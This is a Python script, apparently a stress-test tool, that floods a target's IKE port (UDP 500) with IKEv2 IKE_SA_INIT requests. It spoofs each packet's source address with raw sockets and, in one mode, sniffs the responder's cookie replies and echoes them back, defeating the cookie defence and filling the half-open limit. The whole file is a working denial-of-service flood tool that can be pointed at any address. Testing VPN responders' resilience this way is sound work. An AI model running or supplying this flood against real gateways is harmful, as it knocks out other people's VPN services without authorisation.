#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0
"""Flood a responder's UDP 500 with IKE_SA_INIT requests from spoofed sources.

Each request is valid-looking: a fresh SPIi, one IKE proposal
(AES-GCM-16-256, PRF-HMAC-SHA2-384, Curve25519), a 32-byte KE and a 32-byte
nonce.  The source address is drawn from --src (an IPv4 prefix) per packet;
raw IPv4 sockets (IP_HDRINCL) put it on the wire, so the sender needs root
and a route that takes --dst out of the right interface.

--echo-cookies IFACE plays an attacker that can see the answers (the spoofed
prefix is routed back to it): it captures the responder's N(COOKIE) answers
on IFACE (AF_PACKET) and resends each request with its cookie, as a real
initiator would.  Such a flood passes the cookie check and tests the
half-open limit.

Prints one JSON line: {"sent": N, "seconds": T, "rate": N/T, "cookies_seen":
C, "echoed": E}.
"""
import argparse
import ipaddress
import json
import os
import random
import select
import signal
import socket
import struct
import sys
import time

IKE_SA_INIT = 34
PL_SA, PL_KE, PL_NONCE, PL_NOTIFY, PL_VENDOR = 33, 34, 40, 41, 43
N_COOKIE = 16390
ETH_P_IP = 0x0800


class TimeUp(Exception):
    pass


def time_up(signum, frame):
    raise TimeUp()


def transform(last, ttype, tid, keylen=None):
    attrs = struct.pack("!HH", 0x800E, keylen) if keylen else b""
    return struct.pack("!BBHBBH", 0 if last else 3, 0, 8 + len(attrs), ttype, 0, tid) + attrs


def sa_payload():
    trans = (transform(False, 1, 20, 256) + transform(False, 2, 6) +
             transform(True, 4, 31))
    prop = struct.pack("!BBHBBBB", 0, 0, 8 + len(trans), 1, 1, 0, 3) + trans
    return prop


def payload(nxt, body):
    return struct.pack("!BBH", nxt, 0, 4 + len(body)) + body


def ike_body(size=0):
    """The payload chain after the IKE header (SA, KE, Nonce[, Vendor ID]); its first
    payload type.  With @size, a Vendor ID payload pads the whole IKE message to
    @size bytes (a cookie, when echoed, comes on top)."""
    ke = payload(PL_NONCE, struct.pack("!HH", 31, 0) + os.urandom(32))
    body = payload(PL_KE, sa_payload()) + ke
    pad = size - 28 - len(body) - 4 - 32 - 4
    if pad < 0:
        return PL_SA, body + payload(0, os.urandom(32))
    return PL_SA, body + payload(PL_VENDOR, os.urandom(32)) + payload(0, bytes(pad))


def with_cookie(chain, cookie):
    """The same request with N(COOKIE) first and all other payloads unchanged (§2.6)."""
    notify = struct.pack("!BBH", 0, 0, N_COOKIE) + cookie
    return PL_NOTIFY, payload(PL_SA, notify) + chain


def ike_msg(spi, first, chain):
    length = 28 + len(chain)
    return spi + bytes(8) + struct.pack("!BBBBII", first, 0x20, IKE_SA_INIT, 0x08, 0,
                                        length) + chain


def ip_udp(src, dst, data):
    udp = struct.pack("!HHHH", 500, 500, 8 + len(data), 0) + data
    # version/IHL, TOS, total length, id, frag, TTL, proto, csum (kernel), src, dst
    hdr = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0x4000, 64, 17, 0,
                      src, dst)
    return hdr + udp


def parse_cookie(frame):
    """(dst address, SPIi, cookie) from a captured IKE_SA_INIT N(COOKIE) answer."""
    ip = frame[14:]
    if len(ip) < 20 + 8 + 28 or ip[0] >> 4 != 4 or ip[9] != 17:
        return None
    ihl = (ip[0] & 15) * 4
    udp = ip[ihl:]
    if len(udp) < 8 + 28 + 8 or struct.unpack("!H", udp[0:2])[0] != 500:
        return None
    ike = udp[8:]
    if ike[16] != PL_NOTIFY or ike[18] != IKE_SA_INIT or not ike[19] & 0x20:
        return None
    plen = struct.unpack("!H", ike[30:32])[0]
    if plen < 8 or ike[32] != 0 or ike[33] != 0 or \
            struct.unpack("!H", ike[34:36])[0] != N_COOKIE:
        return None
    return ip[16:20], ike[0:8], bytes(ike[36:28 + plen])


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--dst", required=True)
    ap.add_argument("--src", default="10.77.0.0/16", help="IPv4 prefix of spoofed sources")
    ap.add_argument("--seconds", type=float, default=10)
    ap.add_argument("--count", type=int, default=0, help="stop after N requests")
    ap.add_argument("--pps", type=float, default=0, help="packets per second, 0: flat out")
    ap.add_argument("--echo-cookies", metavar="IFACE")
    ap.add_argument("--nsrc", type=int, default=0,
                    help="only the first N addresses of --src")
    ap.add_argument("--size", type=int, default=0,
                    help="pad each request to this many bytes (IKE message)")
    args = ap.parse_args()

    net = ipaddress.ip_network(args.src)
    base, size = int(net.network_address), net.num_addresses
    if args.nsrc:
        size = min(size, args.nsrc)
    dst = socket.inet_aton(args.dst)
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    raw.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
    raw.setblocking(False)
    cap = None
    if args.echo_cookies:
        cap = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_IP))
        cap.bind((args.echo_cookies, 0))
        cap.setblocking(False)

    first, chain = ike_body(args.size)
    start = time.monotonic()
    # a wall-clock stop that also ends a blocked send
    signal.signal(signal.SIGALRM, time_up)
    signal.setitimer(signal.ITIMER_REAL, args.seconds + 1)
    try:
        flood(args, raw, cap, base, size, dst, first, chain, start)
    except TimeUp:
        pass
    finally:
        # a starved process may reach its exit after the alarm: no alarm then
        signal.setitimer(signal.ITIMER_REAL, 0)
    secs = time.monotonic() - start
    print(json.dumps({"sent": STATE["sent"], "seconds": round(secs, 2),
                      "rate": round(STATE["sent"] / secs) if secs else 0,
                      "cookies_seen": STATE["cookies"], "echoed": STATE["echoed"],
                      "sndbuf_full": STATE["full"]}))
    return 0


STATE = {"sent": 0, "cookies": 0, "echoed": 0, "full": 0}


def flood(args, raw, cap, base, size, dst, first, chain, start):
    st = STATE
    end = start + args.seconds
    gap = 1.0 / args.pps if args.pps else 0
    nxt = start
    # one packet, rewritten in place: source address (IP header) and SPIi
    pkt = bytearray(ip_udp(bytes(4), dst, ike_msg(bytes(8), first, chain)))
    while True:
        now = time.monotonic()
        if now >= end or (args.count and st["sent"] >= args.count):
            break
        if gap:
            if now < nxt:
                time.sleep(nxt - now)
            nxt += gap
        pkt[12:16] = struct.pack("!I", base + random.randrange(size))
        pkt[28:36] = (random.getrandbits(63) | 1).to_bytes(8, "big")
        try:
            raw.sendto(pkt, (args.dst, 0))
            st["sent"] += 1
        except OSError:
            st["full"] += 1
            select.select([], [raw], [], 0.01)
        if cap is None or st["sent"] % 16:
            continue
        while True:
            try:
                frame = cap.recv(4096)
            except BlockingIOError:
                break
            got = parse_cookie(frame)
            if not got:
                continue
            st["cookies"] += 1
            cfirst, cchain = with_cookie(chain, got[2])
            try:
                raw.sendto(ip_udp(got[0], dst, ike_msg(got[1], cfirst, cchain)),
                           (args.dst, 0))
                st["echoed"] += 1
            except OSError:
                pass


if __name__ == "__main__":
    sys.exit(main())
